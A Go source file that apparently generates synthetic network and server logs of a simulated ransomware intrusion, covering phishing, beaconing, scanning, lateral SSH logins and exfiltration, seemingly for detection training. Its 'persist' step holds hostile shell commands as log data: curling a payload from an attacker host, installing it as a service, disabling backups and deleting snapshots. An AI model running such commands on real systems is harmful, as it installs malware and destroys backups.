package gen

import "strconv"

// newAttack returns the lines of an attack, ready in a queue of their own. Their chance is a stream of its own: ordinary life does not
// change by them.
func newAttack(c *council, cfg Config) *queue {
	a := &attack{
		c: c, r: newRNG(cfg.Seed, "attack "+string(cfg.Attack)+" "+c.name), q: newQueue(),
		day: cfg.Start.UnixNano() + int64(cfg.AttackDay-1)*day,
	}
	switch cfg.Attack {
	case Quiet:
	case Ransomware:
		a.ransomware()
	case BruteForce:
		a.bruteForce()
	case DNSTunnel:
		a.dnsTunnel()
	case Insider:
		a.insider()
	case Webshell:
		a.webshell()
	}
	return a.q
}

// An attack writes the lines of one.
type attack struct {
	c   *council
	r   rng
	q   *queue
	day int64 // midnight before it
}

// step names the part of the attack that the next lines belong to.
func (a *attack) step(name string) { a.q.step = name }

// victim is a member of staff whose machine or account is taken.
func (a *attack) victim() *user { return &a.c.users[a.r.IntN(len(a.c.users)/3)] }

// lair is a host of the attacker's: rented where hosting is cheap, mostly where ordinary web sites are hosted too.
func (a *attack) lair() (addr, *country) {
	where := countryNamed(pick(a.r, []string{"Netherlands", "Germany", "United States", "Bulgaria", "Seychelles", "Moldova, Republic of"}))
	return where.addr(a.r), where
}

// call writes a connection from inside to the attacker's host.
func (a *attack) call(at int64, src addr, u *user, dst addr, where *country, port uint16, service string, seconds, sent, rcvd float64) {
	r := a.r
	f := flow{
		src: src, sport: r.ephemeral(), dst: dst, dport: port, proto: 6, policy: polInternet, action: "close", service: service, user: u,
		from: "Reserved", to: where.name, nat: a.c.public, seconds: uint64(r.skewed(seconds, 0.2)), sent: uint64(r.skewed(sent, 0.1)), rcvd: uint64(r.skewed(rcvd, 0.1)),
	}
	if u == nil {
		f.policy = polOut
	} else {
		f.mac = u.mac
	}
	w := wire{src: src, sport: f.sport, dst: dst, dport: port, proto: "TCP", id: flowID(r)}
	a.c.finish(a.q, r, at, &f, &w, "", 0.3)
}

// beacon writes calls home, one each period with a little jitter, from one time to another.
func (a *attack) beacon(from, to, period int64, src addr, u *user, dst addr, where *country, port uint16, service string) {
	for at := from; at < to; at += period + a.r.Int64N(period/10) {
		a.call(at, src, u, dst, where, port, service, 1, 640, 410)
	}
}

// login writes an SSH login with a password, as nobody at the council does it.
func (a *attack) login(at int64, s *server, u *user, from addr, commands []string) {
	r, pid := a.r, process(a.r)
	a.q.put(at, s.accepted(a.q.buf(), at, pid, "password", u.login, from, r.ephemeral(), ""))
	at += r.span(second/200, 0.3)
	a.q.put(at, s.opened(a.q.buf(), at, "sshd", pid, "sshd", u.login, u.uid, u.login, 0))
	for _, command := range commands {
		at += r.span(40*second, 0.6)
		a.c.asRoot(a.q, r, at, s, u, command)
	}
	at += r.span(5*minute, 0.5)
	a.q.put(at, s.ended(a.q.buf(), at, "sshd", pid, "sshd", u.login))
}

// ransomware: a mail's link in the morning, a beacon, a look around, an administrator's account, persistence, and theft at night.
func (a *attack) ransomware() {
	c, r, u := a.c, a.r, a.victim()
	dst, where := a.lair()
	at := a.day + 8*hour + r.Int64N(90*minute)

	a.step("phish")
	site := website{
		name: "docs-" + pick(r, webWords) + "share.top", org: "none", addrs: []addr{dst + 1}, country: where,
		category: &categories[16], app: &applications[1], median: 900_000,
	}
	f := flow{src: u.ip, sport: r.ephemeral(), dst: dst + 1, dport: 80, proto: 6, policy: polInternet, service: "HTTP", user: u, from: "Reserved", to: where.name, sent: 512}
	at = c.resolve(a.q, r, at, u.ip, site.name, "A", dst+1)
	a.q.put(at, c.fgt.web(a.q.buf(), r, at, &f, site.name, "/d/remittance_0603.zip", site.category, false))
	w := wire{src: u.ip, sport: f.sport, dst: dst + 1, dport: 80, proto: "TCP", id: flowID(r)}
	at += second
	a.q.put(at, eveHTTP(a.q.buf(), at, &w, site.name, "/d/remittance_0603.zip", u.agent, "application/zip", "GET", 200, 913_442))
	f.action, f.seconds, f.rcvd, f.app, f.nat = "close", 3, 921_004, site.app, c.public
	c.finish(a.q, r, at, &f, &w, "http", 1)

	a.step("beacon")
	at += r.span(3*minute, 0.3)
	a.beacon(at, a.day+19*hour, 7*minute, u.ip, u, dst, where, 8447, "tcp/8447")

	a.step("scan")
	at = a.day + 13*hour + r.Int64N(hour)
	for third := range 3 {
		for host := range 16 {
			p := flow{
				src: u.ip, sport: r.ephemeral(), dst: ip(10, c.net, third, 5+host*3), dport: pick(r, []uint16{445, 3389, 22, 5985}), proto: 6,
				policy: polInside, action: "deny", user: u, mac: u.mac, from: "Reserved", to: "Reserved",
			}
			p.service = "tcp/" + strconv.Itoa(int(p.dport))
			a.q.put(at, c.fgt.traffic(a.q.buf(), r, at, &p))
			at += r.span(3*second, 0.6)
		}
	}

	a.step("lateral")
	admin := pick(r, c.admins)
	at = a.day + 17*hour + r.Int64N(hour)
	for _, role := range []string{"fs01", "bak01", "db01"} {
		a.login(at, c.servers[role], admin, u.ip, nil)
		at += r.span(9*minute, 0.4)
	}

	a.step("persist")
	at = a.day + 22*hour + r.Int64N(40*minute)
	for _, role := range []string{"fs01", "bak01"} {
		s := c.servers[role]
		a.login(at, s, admin, u.ip, []string{
			"/usr/bin/curl -so /usr/local/sbin/kworkerd http://" + dst.String() + ":8447/k", "/usr/bin/chmod 755 /usr/local/sbin/kworkerd",
			"/usr/bin/systemctl enable --now kworkerd.service", "/usr/bin/systemctl disable --now restic-backup.timer", "/usr/bin/rm -rf /backup/snapshots",
		})
		a.q.put(at+6*minute, s.systemd(a.q.buf(), at+6*minute, "Started kworkerd.service - Kernel worker daemon."))
		at += r.span(12*minute, 0.3)
	}

	a.step("exfiltrate")
	at = a.day + 25*hour + 40*minute + r.Int64N(30*minute)
	for range 9 {
		a.call(at, c.servers["fs01"].ip, nil, dst, where, 8447, "tcp/8447", 500, 3.1e9, 6e6)
		at += r.span(10*minute, 0.3)
	}
}
